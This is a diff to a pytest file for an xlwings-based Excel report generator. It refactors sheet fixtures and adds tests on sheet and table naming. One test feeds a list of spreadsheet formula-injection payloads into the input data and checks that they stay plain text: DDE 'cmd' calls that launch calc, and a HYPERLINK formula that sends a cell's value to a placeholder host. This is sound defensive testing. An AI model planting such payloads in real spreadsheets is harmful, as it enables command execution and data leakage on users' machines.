@@ -3,9 +3,11 @@
 import datetime as dt
 from pathlib import Path
 from typing import Any
+from unittest import mock
 
 import pandas as pd
 import pytest
+import xlwings as xw
 
 from clientbase_xl.excel import gateway as gw
 from clientbase_xl.excel.gateway import XlwingsGateway
@@ -27,15 +29,17 @@ SALES = [
 SETTINGS = [["Setting", "Value"], ["Language", "ru"]]
 
 
-def book_with(sales: list[list[Any]] = SALES) -> Any:
+def sheets_with(sales: list[list[Any]] = SALES) -> list[Any]:
     # Sales is an Excel table starting at B3; Settings a plain sheet.
     padded = [[None] * 5 for _ in range(2)] + [[None, *row] for row in sales]
-    return fake_book(
-        [
-            ("Продажи", padded, {"Sales": (3, 2, len(sales), len(sales[0]))}),
-            ("Settings", SETTINGS, {}),
-        ]
-    )
+    return [
+        ("Продажи", padded, {"Sales": (3, 2, len(sales), len(sales[0]))}),
+        ("Settings", SETTINGS, {}),
+    ]
+
+
+def book_with(sales: list[list[Any]] = SALES) -> Any:
+    return fake_book(sheets_with(sales))
 
 
 def test_reads_each_input_in_one_bulk_transfer_with_positions() -> None:
@@ -89,10 +93,6 @@ def test_a_second_refresh_reuses_the_sheets_and_switches_their_language() -> Non
 
 
 def test_tables_kept_through_a_clear_are_resized_not_added_twice() -> None:
-    from unittest import mock
-
-    import xlwings as xw
-
     book, _ = book_with()
     refresh(XlwingsGateway(book), only={"pareto"})
     pareto = book.made[-1]
@@ -215,3 +215,61 @@ def test_a_sales_file_named_in_settings_is_read_beside_the_book(tmp_path: Path) 
     tables = XlwingsGateway(book).read_tables()
     assert tables["sales"].sheet == "sales.parquet"
     assert list(tables["sales"].column(1)) == ["F1", "F2"]
+
+
+PAYLOADS = [
+    "=cmd|' /C calc'!A0",
+    '=HYPERLINK("http://example.invalid/?x="&A1,"click")',
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "02429",
+]
+
+
+def test_text_from_the_inputs_stays_text_in_excel() -> None:
+    sales = [SALES[0]] + [
+        [dt.datetime(2025, 1 + i % 3, 10), client, 100.0 + i, manager]
+        for i, (client, manager) in enumerate(zip(PAYLOADS, reversed(PAYLOADS), strict=True))
+    ]
+    book, rec = book_with(sales)
+    refresh(XlwingsGateway(book))
+    assert rec.formulas == []
+    segments = next(s for s in book.made if s.name == "Сегменты")
+    shown = {v for v in segments.grid.cells.values() if isinstance(v, str)}
+    assert set(PAYLOADS) <= shown  # kept exactly, without the prefix that kept them text
+
+
+def _mark(sheet: Any) -> str | None:
+    return next((n.refers_to for n in sheet.names if n.name.endswith("!_cb_tab")), None)
+
+
+def test_a_user_sheet_named_like_a_tab_survives_and_tabs_carry_marks() -> None:
+    book, _ = fake_book([*sheets_with(), ("Сегменты", [["мои заметки"]], {})])
+    refresh(XlwingsGateway(book))
+    names = [s.name for s in book.made]
+    assert names.count("Сегменты") == 1 and "Сегменты (2)" in names
+    mine = book.made[names.index("Сегменты")]
+    mine.clear.assert_not_called()
+    mine.delete.assert_not_called()
+    assert _mark(mine) is None
+    assert _mark(book.made[names.index("Сегменты (2)")]) == '="segments|Сегменты (2)"'
+    refresh(XlwingsGateway(book))
+    assert [s.name for s in book.made] == names
+
+
+def test_a_tab_the_user_renamed_is_kept_and_gives_its_table_name_up() -> None:
+    book, _ = book_with()
+    refresh(XlwingsGateway(book), only={"pareto"})
+    pareto = book.made[-1]
+    table = mock.create_autospec(xw.main.Table, instance=True)
+    table.name = "cb_pareto_curve"
+    pareto.tables.__iter__.side_effect = lambda: iter([table])
+    pareto.name = "Парето окт"
+    refresh(XlwingsGateway(book), only={"pareto"})
+    names = [s.name for s in book.made]
+    assert "Парето окт" in names and "Парето" in names
+    pareto.clear.assert_not_called()
+    assert table.name == "cb_pareto_curve_2"
+    new = book.made[names.index("Парето")]
+    assert "cb_pareto_curve" in [c.kwargs["name"] for c in new.tables.add.call_args_list]
